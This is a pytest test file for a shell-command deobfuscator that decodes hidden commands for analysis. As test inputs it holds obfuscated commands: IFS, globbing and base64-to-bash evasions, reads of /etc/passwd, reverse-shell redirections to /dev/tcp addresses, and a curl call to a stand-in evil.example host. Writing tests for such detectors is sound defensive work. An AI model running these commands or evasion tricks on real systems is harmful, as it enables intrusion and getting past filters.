"""What the shell reader makes of commands: tables with near misses."""

from __future__ import annotations

import gzip
import zlib

import pytest

from vedette.commands.base import Reading, Scope
from vedette.commands.budget import Budget
from vedette.commands.sh import METHODS, pure, read, unix_environment, written
from vedette.schema.command import Language


def scope(**more: object) -> Scope:
    return Scope(Budget(), unix_environment(), **more)  # type: ignore[arg-type]


def reading(text: str) -> Reading:
    return read(text, scope())


def lines(made: Reading) -> list[str]:
    return [" ".join([c.name.text, *(w.text for w in c.args)]) for c in made.calls]


@pytest.mark.parametrize(
    ("text", "call"),
    [
        ("w'h'oami", "whoami"),
        ("cu''rl http://example.com", "curl http://example.com"),
        ("c\\at /etc/hosts", "cat /etc/hosts"),
        ("$'\\x63\\141t' /etc/hosts", "cat /etc/hosts"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
        ("cat$IFS$9/etc/passwd", "cat /etc/passwd"),
        ("IFS=,;x=cat,/etc/passwd;$x", "cat /etc/passwd"),
        ("{cat,/etc/passwd}", "cat /etc/passwd"),
        ("/???/b??h -c id", "/bin/bash -c id"),
        ("/bin/c?t /e??/p?ss?d", "/bin/cat /etc/passwd"),
        ("wh$@oami", "whoami"),
        ("who$1ami", "whoami"),
        ("cat$u /etc$u/passwd", "cat /etc/passwd"),
        ("c$()u``rl x", "curl x"),
        ("a=cu;b=rl;$a$b x", "curl x"),
        ("x=abcat;${x:2} y", "cat y"),
        ("x=cXaXt;${x//X/} y", "cat y"),
        ("x=CAT;${x,,} y", "cat y"),
        ("x=zzcat;${x##*z} y", "cat y"),
        ("cmd=id;r=cmd;${!r}", "id"),
        ("a=(d i);${a[1]}${a[0]}", "id"),
        ("declare -A m=([x]=i [y]=d);${m[x]}${m[y]}", "id"),
        ("cat ${PATH:0:1}etc${HOME:0:1}hosts", "cat /etc/hosts"),
        ("$(echo who)ami", "whoami"),
        ("`echo di|rev`", "id"),
        ("$(printf '\\x69\\x64')", "id"),
        ("$(tr a-z b-za <<< hc)", "id"),
        ("set -- a id b; $2", "id"),
        ("f(){ $1 -u; }; f id", "id -u"),
        ("alias z='curl -s'; z http://example.com", "curl -s http://example.com"),
        ("printf -v c '\\151\\144'; $c", "id"),
        ("read c <<< id; $c", "id"),
        ("for c in i d; do x+=$c; done; $x", "id"),
        ("x=$((1+2*3))-$((16#ff)); echo $x", "echo 7-255"),
        ("case abc in a*) id;; *) ls;; esac", "id"),
        ("if [ 1 -eq 1 ]; then id; else ls; fi", "id"),
        ('while read -r l; do echo "<$l>"; done <<< hello', "echo <hello>"),
        ("c[5]=id; ${c[5]}", "id"),
        ("local_x=${undefined_thing:-id}; $local_x", "id"),
    ],
)
def test_hidden_calls_are_written_out(text: str, call: str) -> None:
    made = reading(text)
    assert call in lines(made)
    assert all(
        w.known for c in made.calls if " ".join([c.name.text, *(a.text for a in c.args)]) == call for w in c.args
    )
    assert not made.broken


@pytest.mark.parametrize(
    "text",
    [
        "ls -la /tmp",
        "find . -name '*.txt' -exec grep -l foo {} \\;",
        'cd "$HOME/src" && make -j4',
        "tar czf backup.tar.gz --exclude='*.o' dir",
        'for f in *.jpg; do convert "$f" "${f%.jpg}.png"; done',
        "ps aux | awk '{print $2}' | sort -n | head",
        "grep -E 'a|b' file | sed 's/x/y/g' > out.txt 2>&1",
        "rm -rf /var/log/*",
        "ls /etc/host*",
        "\\rm -f x",
        'echo "it\'s $USER"',
        "cp file{,.bak}",
        "git commit -m \"Fix it\" --author='A B <a@example.com>'",
        "ssh user@example.com 'uptime'",
        "sed -i 's/\\bfoo\\b/bar/' file",
        "tr -d \\n < a",
        "cat <file>",
        "echo {{name}}",
    ],
)
def test_ordinary_commands_stay_as_they_are(text: str) -> None:
    made = reading(text)
    assert made.clear is None
    assert made.methods == ()
    assert not any(n.language is not Language.SH for n in made.nested)


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("cat $file", "$file"),
        ("curl http://$HOST/x", "http://$HOST/x"),
        ("cat /tmp/$1", "/tmp/$1"),
        ("ls $(pwd)", "$(pwd)"),
        ("ls ${x%.txt}", "${x%.txt}"),
        ("echo ${PATH:0:20}", "${PATH:0:20}"),
        ("cat /etc/pa?*", "/etc/pa?*"),
        ("/usr/bin/?? x", "x"),
        ("x=$(curl http://example.com); $x/a b", "b"),
        ("[ -f a ] && x=1; echo $x", "$x"),
        ("read x; echo $x", "$x"),
        ("for i in *; do echo $i; done", "*"),
    ],
)
def test_what_is_not_known_stays_as_written(text: str, word: str) -> None:
    made = reading(text)
    last = made.calls[-1]
    assert last.args[0].text == word
    assert word in ("x", "b") or not last.args[0].known


def test_a_pipe_gives_the_shell_what_it_reads() -> None:
    made = reading("echo d2hvYW1p | base64 -d | bash")
    assert [c.name.text for c in made.calls] == ["base64", "bash"]
    bash = made.calls[1]
    assert bash.stdin == b"whoami"
    assert bash.piped
    assert not bash.pipes
    assert made.calls[0].piped
    assert made.calls[0].pipes
    assert [(p.start, p.end) for p in made.parts if "next step" in p.meaning] == [(5, 13), (0, 4)]
    assert bash.name.methods == ("base64",)
    assert [(n.text, n.methods) for n in made.nested] == [("whoami", ("base64",))]


def test_eval_hands_on_its_text_and_keeps_its_effects() -> None:
    made = reading("x='id -u'; eval \"y=\\$x\"; $y")
    assert made.nested[0].text == "y=$x"
    assert made.nested[0].environment is not None
    assert made.nested[0].environment["x"] == "id -u"
    assert "id -u" in lines(made)


def test_written_files_are_kept_and_found() -> None:
    one = scope()
    read("cd /tmp; echo aWQ= | base64 -d > x.sh; printf more >> ./x.sh; chmod +x x.sh; ./x.sh", one)
    assert written("x.sh", one) == b"idmore"
    assert written("./x.sh", one) == b"idmore"
    assert written("/tmp/x.sh", one) is None or written("/tmp/x.sh", one) == b"idmore"
    assert written("y.sh", one) is None


def test_here_documents() -> None:
    made = reading("cat > a <<'A' ; cat > b <<-B\n$x\nA\n\tone\n\tB\nid")
    assert [c.name.text for c in made.calls] == ["cat", "cat", "id"]
    one = scope()
    read("cat > a <<'A'\n$x\nA\ncat > b <<-B\n\tone\n\tB\n", one)
    assert one.files == {"a": b"$x\n", "b": b"one\n"}


def test_branches_that_are_not_taken_are_not_read() -> None:
    made = reading("if false; then curl http://decoy.example; fi; [ a = b ] && wget x; false || id")
    assert lines(made) == ["false", "[ a = b ]", "false", "id"]


def test_unknown_branches_are_read_and_unsure() -> None:
    made = reading("if grep -q a b; then id; else ls; fi; whoami")
    assert {c.name.text: c.sure for c in made.calls} == {"grep": True, "id": False, "ls": False, "whoami": True}


def test_redirections_to_the_network_are_kept() -> None:
    made = reading("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; (sh)0>/dev/tcp/192.0.2.2/1")
    targets = [r.target.text for c in made.calls for r in c.redirects if r.target]
    assert targets == ["/dev/tcp/192.0.2.1/4444", "/dev/tcp/192.0.2.2/1"]
    assert made.calls[0].redirects[1].operator == "0>&1"


def test_pieces_of_what_is_put_together_are_not_shown() -> None:
    made = reading("a='http://ev';b='il.example/x';curl $a$b")
    assert made.clear == "curl http://evil.example/x"
    assert [w.text for w in made.strings] == []
    made = reading("echo 'c@at /et@c/p@asswd' | tr -d @ | sh")
    assert [c.name.text for c in made.calls] == ["tr", "sh"]


def test_process_substitution_and_here_string_hand_code_on() -> None:
    assert reading("bash <(printf '\\x69\\x64')").nested[0].text == "id"
    assert reading("source <(echo di | rev)").nested[0].text == "id\n"
    assert reading("sh <<< id").nested[0].text == "id\n"
    assert reading("trap 'id' EXIT").nested[0].text == "id"


def test_functions_reach_the_code_that_eval_runs() -> None:
    one = scope()
    outer = read("f(){ echo \"$1\" | rev; }; a=(x y); eval 'g=$(f di); $g ${a[1]}'", one)
    inner = outer.nested[0]
    below = Scope(one.budget, {**one.environment, **(inner.environment or {})})
    assert "id y" in lines(read(inner.text, below))


@pytest.mark.parametrize("method", METHODS, ids=[m.id for m in METHODS])
def test_every_method_is_undone(method: object) -> None:
    from vedette.commands import explain

    made = explain(method.example, Language.SH)  # type: ignore[attr-defined]
    assert method.id in made.methods  # type: ignore[attr-defined]
    assert any(method.shows in layer.text for layer in made.layers)  # type: ignore[attr-defined]


def test_methods_are_many_and_each_is_named_once() -> None:
    assert len(METHODS) >= 25
    assert len({m.id for m in METHODS}) == len(METHODS)


@pytest.mark.parametrize(
    ("name", "args", "stdin", "out"),
    [
        ("base64", ["-d"], b"aWQ=", b"id"),
        ("base64", ["--decode", "-i"], b"a?WQ=", b"id"),
        ("base64", ["-w0"], b"id", b"aWQ="),
        ("openssl", ["enc", "-base64", "-d", "-A"], b"aWQ=", b"id"),
        ("xxd", ["-r", "-p"], b"69 64", b"id"),
        ("tr", ["a-z", "n-za-m"], b"vq", b"id"),
        ("tr", ["-d", "[:space:]"], b"i d\n", b"id"),
        ("sed", ["-E", "s/(.)(.)/\\2\\1/"], b"di", b"id"),
        ("sed", ["-n", "2p"], b"a\nid\n", b"id\n"),
        ("cut", ["-d:", "-f2"], b"a:id:b\n", b"id\n"),
        ("rev", [], b"di", b"id"),
        ("printf", ["%b", "\\0151d"], None, b"id"),
        ("printf", ["%s-%s\\n", "a", "b", "c"], None, b"a-b\nc-\n"),
        ("printf", ["\\x%s", "69"], None, b"\\x69"),
        ("echo", ["-e", "\\x69\\0144"], None, b"id\n"),
        ("sed", [":a;N;$!ba;s/\\n/-/g"], b"a\nb\nc\n", b"a-b-c\n"),
        ("sed", ["-e", ":a", "-e", "s/x//;ta"], b"axxb\n", b"ab\n"),
        ("sed", ["/\\n/!G;s/\\(.\\)\\(.*\\n\\)/&\\2\\1/;//D;s/.//"], b"di\nab\n", b"id\nba\n"),
        ("sed", ["s/.*/\\L&/"], b"ID\n", b"id\n"),
        ("sed", ["s/\\(.\\)\\(.*\\)/\\u\\1\\U\\2\\E!/"], b"abc\n", b"ABC!\n"),
        ("tac", ["-rs", "."], b"abc\nde\n", b"\ne\ndcba"),
        ("tac", ["-r", "-s", "x\\|[^x]"], b"di", b"id"),
        ("hexdump", ["-ve", '1/1 "%.2x"'], b"id", b"6964"),
        ("openssl", ["zlib", "-d"], zlib.compress(b"id"), b"id"),
        ("openssl", ["enc", "-zlib", "-d"], zlib.compress(b"id"), b"id"),
        ("pigz", ["-dz"], zlib.compress(b"id"), b"id"),
        ("gunzip", [], gzip.compress(b"id", mtime=0), b"id"),
        ("mimencode", ["-u"], b"aWQ=", b"id"),
        ("b64decode", ["-r"], b"aWQ=", b"id"),
        ("seq", ["1", "2", "5"], None, b"1\n3\n5\n"),
        ("paste", ["-sd", ""], b"i\nd\n", b"id\n"),
        ("grep", ["-o", "[0-9]*"], b"a12b3\n", b"12\n3\n"),
        ("bc", [], b"obase=16; 255\n", b"FF\n"),
        ("dd", ["bs=1", "skip=1", "count=2"], b"xidy", b"id"),
        # what is not understood is not guessed
        ("sed", ["s/a/b/e"], b"x\n", None),
        ("sed", ["ba"], b"x\n", None),
        ("tr", ["-q", "a"], b"x", None),
        ("base64", ["--strange"], b"x", None),
        ("openssl", ["enc", "-d", "-des3", "-k", "x"], b"x", None),
        ("printf", ["%(%Y)T"], None, None),
        ("jq", ["."], b"{}", None),
        ("cat", ["/etc/passwd"], None, None),
        ("base64", ["-d"], None, None),
    ],
)
def test_pure_tools(name: str, args: list[str], stdin: bytes | None, out: bytes | None) -> None:
    assert pure(name, args, stdin, scope()) == out


def test_ciphers_with_the_password_beside_them() -> None:
    # made with: printf 'cat /etc/hosts' | openssl enc -aes-256-cbc -pbkdf2 -salt -k secret | base64
    data = b"U2FsdGVkX18VKTVob9d6j3SFHTGr//uHBbKkcFbLmys=\n"
    args = ["enc", "-d", "-aes-256-cbc", "-a", "-pbkdf2", "-k"]
    assert pure("openssl", [*args, "secret"], data, scope()) == b"cat /etc/hosts"
    assert pure("openssl", [*args, "other"], data, scope()) is None
